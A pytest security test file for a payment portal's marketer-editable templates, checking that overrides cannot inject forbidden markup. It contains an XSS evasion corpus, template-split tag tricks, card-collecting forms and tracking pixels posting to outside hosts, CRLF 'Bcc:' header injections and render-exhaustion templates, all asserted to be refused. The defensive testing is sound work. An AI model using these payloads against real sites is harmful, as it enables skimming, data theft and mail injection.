"""What a marketer's override makes learners receive (issue 23): the rendered output is checked
with a real HTML parser, not the template source; the checkout's essentials (summary, Pay, Try
again, Cancel) cannot be dropped or changed; a render budget; emails load nothing remote; brand
fields that reach mail headers carry no line breaks; forms may only lead to us and Stripe."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from portal.branding import environment, markup, overrides
from portal.branding.brands import BrandError
from portal.branding.operations import save_brand
from portal.db import db
from portal.models import OrderState, TemplateOverride
from tests.admin_support import make_order
from tests.api_support import make_key
from tests.test_api_email import smtp_server  # noqa: F401 - the in-process SMTP server fixture
from tests.test_branding import ACTOR, brand_input, editor_post, publish_raw, review
from tests.test_email_branding import merchant_order, parts, send

pytest_plugins = ["tests.admin_fixtures"]  # console, fast_hashing

COLLECT = "http://127.0.0.2:5699/collect"


@pytest.fixture(autouse=True)
def fresh_templates(monkeypatch):
    """Compiled overrides are cached per process; each test's database numbers rows afresh."""
    monkeypatch.setattr(environment, "_live", {})


def heading(payload: str) -> str:
    return (
        '{% extends "default:review.html" %}{% block heading %}<h1>Review</h1>'
        + payload
        + "{% endblock %}"
    )


# --- the reproductions --------------------------------------------------------------------------

# Each turns into forbidden markup only when the template runs.
RENDERED_ONLY = {
    "form split by a comment": f'<fo{{##}}rm action="{COLLECT}" method="post">'
    '<input name="card"><button>Pay</button></form>',
    "form split by raw": f'<{{% raw %}}form{{% endraw %}} action="{COLLECT}" method="post">'
    "<button>Pay</button></form>",
    "base split by raw": '<{% raw %}base{% endraw %} href="http://127.0.0.2:5699/">',
    "meta refresh split by a comment": '<me{##}ta http-equiv="refresh" '
    'content="0;url=http://127.0.0.2:5699/">',
    "script split by a comment": "<scr{##}ipt>alert(1)</script>",
    "event handler split by a comment": '<img src="/static/x.png" o{##}nerror="alert(1)">',
    "javascript link split by set": '{% set s = "javas" %}<a href="{{ s }}cript:alert(1)">x</a>',
}


@pytest.mark.parametrize("payload", RENDERED_ONLY.values(), ids=RENDERED_ONLY.keys())
def test_markup_made_at_render_time_is_refused_at_publish(console, payload):
    source = heading(payload)
    with console("marketer").application.test_request_context():
        problems = overrides.check("review.html", source)
        assert problems, payload
        row = overrides.save_draft(ACTOR, "review.html", source, None)
        with pytest.raises(overrides.OverrideError):
            overrides.publish(ACTOR, "review.html", row.version)


@pytest.mark.parametrize("payload", RENDERED_ONLY.values(), ids=RENDERED_ONLY.keys())
def test_a_live_override_rendering_forbidden_markup_is_not_served(app, payload, caplog):
    """A row changed behind the console's back: learners get the default page, and the operator
    an alert saying why."""
    publish_raw("review.html", heading(payload))
    order = make_order(state=OrderState.OPEN)
    with caplog.at_level("ERROR", logger="portal.branding"):
        page = review(app, order).text
    assert "127.0.0.2" not in page
    assert "alert(1)" not in page
    assert 'http-equiv="refresh"' not in page
    assert f'action="/orders/{order.reference}/pay"' in page
    assert "Pay $78.40" in page
    assert "ALERT template override failed or refused" in caplog.text
    with db.reader() as session:
        row = session.scalar(select(TemplateOverride))
    assert row.failure_count >= 1
    assert row.last_failure.startswith("review.html: ")


def test_the_draft_preview_does_not_show_forbidden_markup(console):
    marketer = console("marketer")
    saved = editor_post(
        marketer,
        "/admin/branding/templates/review.html",
        source=heading(RENDERED_ONLY["form split by a comment"]),
    )
    assert saved.status_code == 303
    shown = marketer.get("/admin/branding/templates/review.html/preview?version=1&state=open")
    assert shown.status_code == 422
    assert COLLECT not in shown.text
    assert "forms come only from the locked checkout parts" in shown.text
    editor = marketer.get(saved.headers["Location"]).text
    assert "cannot be published" not in editor  # nothing attempted yet
    assert "forms come only from the locked checkout parts" in editor


# --- the essentials -----------------------------------------------------------------------------

HOSTILE_PAGES = {
    "content replaced": '{% extends "default:review.html" %}'
    "{% block content %}<h1>Big sale!</h1>{% endblock %}",
    "plain HTML": "<!doctype html><html><body><h1>Big sale!</h1></body></html>",
    "pay panel hidden": '{% extends "default:review.html" %}{% block content %}'
    "<div hidden>{{ super() }}</div>{% endblock %}",
    "pay panel inside a link": '{% extends "default:review.html" %}{% block content %}'
    '<a href="https://example.com/">{{ super() }}</a>{% endblock %}',
    "pay panel twice": '{% extends "default:review.html" %}{% block content %}'
    "{{ super() }}{{ super() }}{% endblock %}",
    "lang dropped": '{% extends "default:base.html" %}{% block content %}{% endblock %}',
    "stylesheets dropped by a plain review page": "<!doctype html><html lang=en><head><title>x"
    "</title></head><body></body></html>",
}


@pytest.mark.parametrize("source", HOSTILE_PAGES.values(), ids=HOSTILE_PAGES.keys())
def test_a_page_without_the_working_pay_form_is_refused(console, source):
    with console("marketer").application.test_request_context():
        problems = overrides.check("review.html", source)
    assert problems
    text = " ".join(p.message for p in problems)
    assert "Pay" in text or "lang" in text or "<title>" in text or "stylesheets" in text


@pytest.mark.parametrize("source", HOSTILE_PAGES.values(), ids=HOSTILE_PAGES.keys())
def test_a_live_page_without_the_pay_form_serves_the_default(app, source):
    publish_raw("review.html", source)
    order = make_order(state=OrderState.OPEN)
    page = review(app, order).text
    assert "Big sale!" not in page
    assert page.count(f'action="/orders/{order.reference}/pay"') == 1
    assert '<html lang="en">' in page


def test_an_override_of_the_blocks_around_the_essentials_publishes(console):
    source = (
        '{% extends "default:review.html" %}'
        '{% block heading %}<h1 class="sale">Big sale!</h1>{% endblock %}'
        "{% block before_checkout %}<p>Ends <strong>Friday</strong>. "
        '<a href="https://academy.example.com/terms">Terms</a></p>{% endblock %}'
        '{% block after_checkout %}<p>Questions? <a href="mailto:help@example.com">'
        "Write to us</a></p>{% endblock %}"
    )
    with console("marketer").application.test_request_context():
        assert overrides.blocking(overrides.check("review.html", source)) == []
        row = overrides.save_draft(ACTOR, "review.html", source, None)
        overrides.publish(ACTOR, "review.html", row.version)


def test_the_cancelled_page_keeps_try_again_and_cancel(app):
    publish_raw(
        "review.html",
        '{% extends "default:review.html" %}{% block content %}{% if not cancelled %}'
        "{{ super() }}{% endif %}{% endblock %}",
    )
    order = make_order(state=OrderState.OPEN)
    page = app.test_client().get(f"/orders/{order.reference}/cancelled").text
    assert "Try again:" in page
    assert f'action="/orders/{order.reference}/cancel"' in page


# --- the render budget ------------------------------------------------------------------------

MILLION = (
    "{% for i in range(100) %}{% for j in range(100) %}{% for k in range(100) %}"
    "{% endfor %}{% endfor %}{% endfor %}"
)
BUDGET_BREAKERS = {
    "triple loop of a million steps": MILLION,
    "loops over literal lists": "{% set l = [0,0,0,0,0,0,0,0,0,0] %}"
    "{% for a in l %}{% for b in l %}{% for c in l %}{% for d in l %}{% for e in l %}"
    "{% for f in l %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    "a huge string": "{{ 'x' * 100000000 }}",
    "a huge power": "{{ 9 ** 99999999 }}",
    "a recursive macro": "{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}{{ m(1) }}",
}


@pytest.mark.parametrize("payload", BUDGET_BREAKERS.values(), ids=BUDGET_BREAKERS.keys())
def test_an_override_over_the_render_budget_is_refused_with_the_reason(console, payload):
    with console("marketer").application.test_request_context():
        problems = overrides.check("review.html", heading(payload))
    assert problems
    assert any(
        word in problems[0].message
        for word in ("steps", "too long", "too large", "recursion", "ms to render")
    )


def test_a_live_override_over_the_budget_serves_the_default_and_alerts(app, caplog):
    publish_raw("review.html", heading(MILLION))
    order = make_order(state=OrderState.OPEN)
    with caplog.at_level("ERROR", logger="portal.branding"):
        page = review(app, order).text
    assert "Pay $78.40" in page
    assert "ALERT template override failed or refused" in caplog.text
    assert "steps to render" in caplog.text


def test_the_loop_guard_name_is_reserved(console):
    with console("marketer").application.test_request_context():
        problems = overrides.check(
            "review.html", heading("{% set _budgeted_loop = range %}{{ 1 }}")
        )
    assert problems
    assert "reserved" in problems[0].message


def test_default_pages_render_well_within_the_budget(app):
    """Every default sample renders in a small part of the step budget."""
    from portal.branding import samples

    with app.test_request_context():
        env = environment.fixed_environment("en", {})
        for sample in samples.all_samples():
            budget = environment.Budget()
            token = environment.render_budget.set(budget)
            try:
                overrides.render_sample(env, sample, "en", None)
            finally:
                environment.render_budget.reset(token)
            assert budget.used < environment.RENDER_STEPS // 10, sample.key


# --- emails -----------------------------------------------------------------------------------

PIXEL = (
    '{% extends "default:email/pay_link.html" %}{% block body %}{{ super() }}'
    '<img src="http://127.0.0.2:5699/pixel.gif?ref={{ order.reference }}'
    '&e={{ order.customer_email }}" width="1" height="1">{% endblock %}'
)
EMAIL_HOSTILE = {
    "remote tracking pixel": PIXEL,
    "https pixel": PIXEL.replace("http://127.0.0.2:5699", "https://track.example.net"),
    "background image in a style": '{% extends "default:email/pay_link.html" %}'
    '{% block body %}<p style="background:url(https://track.example.net/p.gif)">Hi</p>'
    "{{ super() }}{% endblock %}",
    "link to another host": '{% extends "default:email/pay_link.html" %}{% block body %}'
    '<a href="https://evil.example.net/pay">Pay here</a>{{ super() }}{% endblock %}',
    "outlook conditional comment": '{% extends "default:email/pay_link.html" %}'
    '{% block body %}<!--[if mso]><img src="https://track.example.net/p.gif"><![endif]-->'
    "{{ super() }}{% endblock %}",
}


@pytest.mark.parametrize("source", EMAIL_HOSTILE.values(), ids=EMAIL_HOSTILE.keys())
def test_an_email_override_loading_remote_resources_is_refused(console, source):
    with console("marketer").application.test_request_context():
        assert overrides.check("email/pay_link.html", source)


def test_a_live_email_override_with_a_tracking_pixel_sends_the_default(
    make_app,
    smtp_server,  # noqa: F811
    caplog,
):
    app = make_app(SMTP_URL=smtp_server.url)
    publish_raw("email/pay_link.html", PIXEL)
    key = make_key(brand_name="Acme Supplies")
    order = merchant_order(key)
    with caplog.at_level("ERROR", logger="portal.branding"):
        message = send(app, smtp_server, order)
    _text, html = parts(message)
    assert "127.0.0.2" not in html
    assert "pixel.gif" not in html
    assert "Review and pay $2,210.00" in html
    assert "ALERT email template override failed or refused" in caplog.text


def test_an_email_override_may_link_to_the_brands_hosts(console):
    save_brand(ACTOR, brand_input(terms_url="https://academy.example.com/terms"))
    source = (
        '{% extends "default:email/pay_link.html" %}{% block body %}{{ super() }}'
        '<p style="margin:0"><a href="https://academy.example.com/courses">Our courses</a>'
        "</p>{% endblock %}"
    )
    with console("marketer").application.test_request_context():
        assert overrides.blocking(overrides.check("email/pay_link.html", source)) == []


# --- header-bound brand fields ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"name": "Acme\r\nBcc: victim@example.com"}, "name"),
        ({"name": "Acme\nAcademy"}, "name"),
        ({"name": "Acme\x00Academy"}, "name"),
        ({"name": "Acme\u2028Academy"}, "name"),
        ({"support_email": "help@example.com\r\nBcc: x@example.com"}, "support_email"),
        ({"terms_url": "https://example.com/\r\nX: y"}, "terms_url"),
    ],
)
def test_brand_fields_with_line_breaks_are_refused(app, fields, field):
    with pytest.raises(BrandError) as refused:
        save_brand(ACTOR, brand_input(**fields))
    assert field in refused.value.problems


def test_a_key_brand_name_with_line_breaks_is_refused(runner):
    result = runner.invoke(
        args=["portal", "create-api-key", "shop", "--brand", "Acme\r\nBcc: x@example.com"]
    )
    assert result.exit_code != 0
    assert "brand" in result.output.lower()


# --- the content security policy --------------------------------------------------------------


@pytest.mark.parametrize("path", ["/orders/ord_nosuchorder0000000000", "/admin/login", "/"])
def test_every_page_limits_forms_base_and_framing(client, path):
    policy = client.get(path).headers["Content-Security-Policy"]
    assert "form-action 'self' https://checkout.stripe.com" in policy
    assert "base-uri 'none'" in policy
    assert "frame-ancestors 'none'" in policy


def test_the_review_page_allows_its_own_cancel_redirect(app):
    order = make_order(state=OrderState.OPEN, redirect_url="https://academy.example.com/back")
    policy = review(app, order).headers["Content-Security-Policy"]
    assert "https://academy.example.com" in policy.split("form-action", 1)[1].split(";")[0]


# --- the evasion corpus, against the rendered-output check itself --------------------------------

DEFAULT_PAGE = (
    '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Review · Acme</title>'
    '<link rel="stylesheet" href="/static/portal.css"></head><body><main>{}'
    '<section data-locked="pay"><form method="post" action="/orders/o1/pay">'
    '<input type="hidden" name="csrf_token" value="t"><button type="submit">Pay</button>'
    "</form></section></main></body></html>"
)


def page_with(extra: str) -> str:
    return DEFAULT_PAGE.format(extra)


EVASIONS = [
    # tags and case
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=/static/x.js></ScRiPt>",
    "<script\n>alert(1)</script>",
    "<script/xss>alert(1)</script>",
    "<<script>script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<IFRAME SRCDOC='<script>alert(1)</script>'></IFRAME>",
    "<iframe/src=https://evil.example>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<BASE HREF=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<META HTTP-EQUIV=REFRESH CONTENT='0;URL=javascript:alert(1)'>",
    '<meta http-equiv="Content-Security-Policy" content="form-action *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<template><form action=https://evil.example></form></template>",
    "<noscript><img src=https://evil.example/p.gif></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # forms and form controls
    '<form action="https://evil.example/collect" method=post><input name=card></form>',
    '<form action="/orders/o1/pay" method="post"><button>Pay</button></form>',
    "<button form=f formaction=https://evil.example>Pay</button>",
    "<input type=image src=https://evil.example/p.gif>",
    "<textarea>",
    "<select><option>x</option></select>",
    # attributes
    "<img src=/static/x.png onerror=alert(1)>",
    "<img src=/static/x.png ONERROR=alert(1)>",
    '<img src="/static/x.png"onerror="alert(1)">',
    "<img/onerror=alert(1)/src=/static/x.png>",
    "<p onmouseover=alert(1)>x</p>",
    "<a href=# onclick=alert(1)>x</a>",
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    '<div data-locked="pay"><form action="https://evil.example"></form></div>',
    '<img src="/static/x.png" srcset="https://evil.example/p.gif 2x">',
    '<details open ontoggle="alert(1)">x</details>',
    # URLs: schemes, entities, whitespace and control characters
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<img src="https://evil.example/p.gif">',
    '<img src="//evil.example/p.gif">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<img src=http://evil.example/p.gif>",
    # SVG
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><set attributeName="onload" to="alert(1)"/></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    '<svg><image href="https://evil.example/p.gif"/></svg>',
    "<svg><foreignObject><form action=https://evil.example></form></foreignObject></svg>",
    '<svg><rect fill="url(https://evil.example/x.svg#p)" width="9" height="9"/></svg>',
    "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
    # the essentials
    "<div hidden>",
    '<div class="skip">',
]


@pytest.mark.parametrize("payload", EVASIONS)
def test_the_evasion_corpus_is_refused_by_the_rendered_output_check(payload):
    assert markup.problems(page_with(payload), page_with("")), payload


SAFE = [
    "<h2>Big sale</h2><p>Ends <strong>Friday</strong>.</p>",
    '<p><a href="https://academy.example.com/terms" rel="noopener">Terms</a></p>',
    '<p><a href="/orders/o1/status">Status</a> <a href="mailto:a@example.com">Mail</a></p>',
    '<img src="/static/badge.png" alt="Badge" width="40" height="40">',
    '<ul class="perks"><li>One</li><li aria-label="two">Two</li></ul>',
    '<svg viewBox="0 0 24 24" aria-hidden="true"><path d="M1 1h2"/></svg>',
    "<table><tr><th scope=col>A</th></tr><tr><td>1</td></tr></table>",
]


@pytest.mark.parametrize("payload", SAFE)
def test_ordinary_marketing_markup_passes(payload):
    assert markup.problems(page_with(payload), page_with("")) == []


def test_the_default_pages_pass_their_own_check(app):
    """The check of each default against itself is clean: the allow-list fits what we ship."""
    from portal.branding import samples

    with app.test_request_context():
        env = environment.fixed_environment("en", {})
        for sample in samples.all_samples():
            if sample.template.endswith(".txt"):
                continue
            html, rules = overrides.render_sample(env, sample, "en", None)
            assert markup.problems(html, html, rules) == [], sample.key


# --- brands do not bleed into one another -------------------------------------------------------


def default_acme():
    return save_brand(
        ACTOR,
        brand_input(
            name="Acme Academy",
            is_default=True,
            support_email="billing@acme-academy.example",
            terms_url="https://acme-academy.example/terms",
            privacy_url="https://acme-academy.example/privacy",
            copy_blocks={
                "footer_note": "Acme Academy Ltd, VAT GB123456789",
                "review_intro": "Join Acme Academy today!",
            },
        ),
    )


def test_the_default_brand_does_not_leak_into_another_merchants_email(
    make_app,
    smtp_server,  # noqa: F811
):
    app = make_app(SMTP_URL=smtp_server.url, BRAND_SUPPORT_EMAIL="help@settings.example")
    default_acme()
    key = make_key(brand_name="Northwind Supplies")
    message = send(app, smtp_server, merchant_order(key))
    text, html = parts(message)
    assert "Northwind Supplies" in message["From"]
    for leaked in (
        "GB123456789",
        "billing@acme-academy.example",
        "acme-academy.example/terms",
        "acme-academy.example/privacy",
        "Acme Academy",
    ):
        assert leaked not in text, leaked
        assert leaked not in html, leaked
    assert "help@settings.example" in text


def test_the_default_brand_does_not_leak_into_another_merchants_pay_page(app):
    default_acme()
    key = make_key(brand_name="Northwind Supplies")
    order = merchant_order(key)
    page = review(app, order).text
    assert "Northwind Supplies" in page
    for leaked in ("Join Acme Academy", "GB123456789", "billing@acme-academy.example", "Acme"):
        assert leaked not in page, leaked


def test_a_source_without_a_name_of_its_own_falls_back_to_the_default_brand(app):
    default_acme()
    order = make_order(state=OrderState.OPEN)
    page = review(app, order).text
    assert "Join Acme Academy today!" in page
    assert "VAT GB123456789" in page


# --- the brand form: what each field accepts, and each error beside its field --------------------


def test_copy_with_tags_and_names_with_line_breaks_are_refused_beside_their_fields(console):
    from tests.admin_support import csrf

    marketer = console("marketer")
    page = marketer.get("/admin/branding/brands/new")
    assert "Plain text, up to 400 characters. Tags such as &lt;b&gt; are refused." in page.text
    fields = {
        "name": "Acme\r\nBcc: victim@example.com",
        "primary": "#3b37b8",
        "text": "#16192b",
        "background": "#f3f5f9",
        "accent": "#1a5fd0",
        "font_stack": "system",
        "review_intro": "<b>Sale</b> <script>alert(1)</script>",
    }
    refused = marketer.post(
        "/admin/branding/brands/new", data={"csrf_token": csrf(page.text), **fields}
    )
    assert refused.status_code == 400
    html = refused.text
    intro_error = html.index('id="review_intro-error"')
    assert html.index('name="review_intro"') < intro_error
    assert "Plain text only: remove the tags" in html[intro_error : intro_error + 300]
    name_error = html.index('id="name-error"')
    assert "Remove line breaks" in html[name_error : name_error + 200]
    assert "<script>alert(1)</script>" not in html


# --- languages ----------------------------------------------------------------------------------


def test_the_checker_lists_each_page_where_a_french_learner_reads_english(console):
    source = heading("<p>Big sale on every course</p>")
    with console("marketer").application.test_request_context():
        found = overrides.check("review.html", source)
    assert overrides.blocking(found) == []
    warnings = [p for p in found if p.warning]
    pages = {p.where for p in warnings}
    assert "Review: open, promo code, quantity 2 (fr)" in pages
    assert "Review: payment not completed (fr)" in pages
    assert all("(fr" in where for where in pages)
    assert all("'Big sale on every course'" in p.message for p in warnings)


def test_text_given_per_language_is_not_listed(console):
    source = (
        '{% extends "default:review.html" %}{% block intro %}<p>{% if lang == "fr" %}'
        "Promotion sur tous les cours{% else %}Big sale on every course{% endif %}</p>"
        "{% endblock %}"
    )
    with console("marketer").application.test_request_context():
        assert overrides.check("review.html", source) == []


def test_the_editor_shows_mixed_languages_and_still_publishes(console):
    marketer = console("marketer")
    saved = editor_post(
        marketer,
        "/admin/branding/templates/review.html",
        source=heading("<p>Big sale on every course</p>"),
    )
    page = marketer.get(saved.headers["Location"]).text
    assert "where a learner would read another language" in page
    assert "Learners reading fr would see this text in English" in page
    published = editor_post(marketer, "/admin/branding/templates/review.html/publish", version="1")
    assert published.status_code == 303
    assert "is live" in marketer.get(published.headers["Location"]).text


def test_copy_is_given_per_language_and_missing_translations_are_listed(app, console):
    brand = save_brand(
        ACTOR,
        brand_input(
            copy_blocks={
                "review_intro": "Members save 20% this month.",
                "review_intro:fr": "Les membres économisent 20 % ce mois-ci.",
                "footer_note": "Acme Academy Ltd",
            }
        ),
    )
    english = make_order(state=OrderState.OPEN, locale="en_US")
    french = make_order(state=OrderState.OPEN, locale="fr_FR", platform_ref="p1fr")
    assert "Members save 20% this month." in review(app, english).text
    page = review(app, french).text
    assert "Les membres économisent 20 % ce mois-ci." in page
    assert "Members save" not in page
    marketer = console("marketer")
    editor = marketer.get(f"/admin/branding/brands/{brand.id}").text
    assert "Les membres économisent 20 % ce mois-ci." in editor
    assert "Learners would read English here" in editor
    assert "In every page&#39;s footer: no fr text, so fr pages show the English one." in editor
    assert "Under the review page&#39;s heading: no fr text" not in editor


# --- brand changes: draft, preview of every state, publish, roll back, audit ----------------------


def brand_fields(**changes) -> dict:
    fields = {
        "name": "Acme Academy",
        "primary": "#3b37b8",
        "text": "#16192b",
        "background": "#f3f5f9",
        "accent": "#1a5fd0",
        "font_stack": "system",
        "review_intro": "Welcome back.",
    }
    fields.update(changes)
    return fields


def test_a_brand_change_is_a_draft_until_published_and_can_be_rolled_back(app, console):
    from portal.branding import samples
    from tests.admin_support import audit_entries, csrf

    marketer = console("marketer")
    brand = save_brand(ACTOR, brand_input(copy_blocks={"review_intro": "Welcome back."}))
    order = make_order(state=OrderState.OPEN)
    page = marketer.get(f"/admin/branding/brands/{brand.id}")
    saved = marketer.post(
        f"/admin/branding/brands/{brand.id}",
        data={
            "csrf_token": csrf(page.text),
            **brand_fields(name="Northwind Academy", primary="#0b6e4f", note="Rename"),
        },
    )
    assert saved.status_code == 303
    assert saved.headers["Location"].endswith("version=2")
    # A draft: learners still see the live brand.
    assert "Acme Academy" in review(app, order).text
    assert "Northwind Academy" not in review(app, order).text
    editor = marketer.get(saved.headers["Location"]).text
    assert "Version 2 (draft): preview, publish" in editor
    # Its preview on every sample state, in every language, wears the draft.
    for sample in samples.all_samples():
        for lang in ("en", "fr"):
            shown = marketer.get(
                f"/admin/branding/brands/{brand.id}/versions/2/preview"
                f"?state={sample.key}&lang={lang}"
            )
            assert shown.status_code == 200, (sample.key, lang)
            assert "Northwind Academy" in shown.text, (sample.key, lang)
    theme = marketer.get(f"/admin/branding/brands/{brand.id}/versions/2/theme.css").text
    assert "--brand: #0b6e4f;" in theme
    published = marketer.post(
        f"/admin/branding/brands/{brand.id}/publish",
        data={"csrf_token": csrf(editor), "version": "2"},
    )
    assert published.status_code == 303
    assert "Northwind Academy" in review(app, order).text
    # One click back to version 1.
    editor = marketer.get(f"/admin/branding/brands/{brand.id}?version=1").text
    assert "Publish version 1 again (roll back)" in editor
    marketer.post(
        f"/admin/branding/brands/{brand.id}/publish",
        data={"csrf_token": csrf(editor), "version": "1"},
    )
    assert "Acme Academy" in review(app, order).text
    history = operations_versions(brand.id)
    assert [(v.version, v.published_at is not None) for v in history] == [
        (3, True),
        (2, True),
        (1, True),
    ]
    assert history[0].note == "Rollback to version 1"
    actions = [e.action for e in audit_entries() if e.action.startswith("brand.")]
    assert actions == ["brand.create", "brand.draft", "brand.publish", "brand.rollback"]


def operations_versions(brand_id):
    from portal.branding.operations import versions

    return versions(brand_id)


def test_a_draft_brand_with_problems_is_not_saved_and_says_why_beside_each_field(app, console):
    from tests.admin_support import csrf

    marketer = console("marketer")
    brand = save_brand(ACTOR, brand_input())
    page = marketer.get(f"/admin/branding/brands/{brand.id}")
    refused = marketer.post(
        f"/admin/branding/brands/{brand.id}",
        data={
            "csrf_token": csrf(page.text),
            **brand_fields(support_email="a@example.com\r\nBcc: b@example.com"),
        },
    )
    assert refused.status_code == 400
    error = refused.text.index('id="support_email-error"')
    assert "Remove line breaks" in refused.text[error : error + 200]
    assert operations_versions(brand.id)[0].version == 1


# --- overrides for one brand ----------------------------------------------------------------------


def test_an_override_for_one_brand_reaches_only_that_brands_pages(app, console):
    from portal.branding.operations import assign

    acme = save_brand(ACTOR, brand_input(name="Acme Academy", is_default=True))
    northwind = save_brand(ACTOR, brand_input(name="Northwind Academy"))
    assign(ACTOR, "openlearning", "northwind-inst", northwind.id)
    source = (
        '{% extends "default:review.html" %}'
        '{% block heading %}<h1 class="nw">{{ _("Review your order") }}</h1>{% endblock %}'
    )
    with console("marketer").application.test_request_context():
        row = overrides.save_draft(ACTOR, "review.html", source, "Northwind", northwind.id)
        overrides.publish(ACTOR, "review.html", row.version)
        for_all = overrides.save_draft(
            ACTOR,
            "review.html",
            source.replace('class="nw"', 'class="all"'),
            None,
        )
        overrides.publish(ACTOR, "review.html", for_all.version)
    skilljar = make_order(state=OrderState.OPEN)
    openlearning = make_order(
        state=OrderState.OPEN,
        platform="openlearning",
        platform_ref="ol1",
        platform_data={"institution": "northwind-inst"},
    )
    acme_page = review(app, skilljar).text
    northwind_page = review(app, openlearning).text
    assert 'class="all"' in acme_page
    assert 'class="nw"' not in acme_page
    assert 'class="nw"' in northwind_page
    assert 'class="all"' not in northwind_page
    assert "Acme Academy" not in northwind_page
    # Both stay live: publishing the one for every brand left Northwind's own in place.
    with db.reader() as session:
        live = session.scalars(
            select(TemplateOverride).where(TemplateOverride.published.is_(True))
        ).all()
    assert {(r.version, r.brand_id) for r in live} == {(1, northwind.id), (2, None)}
    assert acme.id != northwind.id


@pytest.mark.parametrize(
    "link",
    [
        "http://127.0.0.2:5699/t?e={{ order.customer_email }}",
        "https://track.example.net/click",
        "www.track.example.net/click",
    ],
)
def test_a_plain_text_email_override_may_not_print_other_links(console, link):
    source = "{% include 'default:email/pay_link.txt' %}\nMore: " + link + "\n"
    with console("marketer").application.test_request_context():
        problems = overrides.blocking(overrides.check("email/pay_link.txt", source))
    assert problems
    assert "not allowed in an email" in problems[0].message
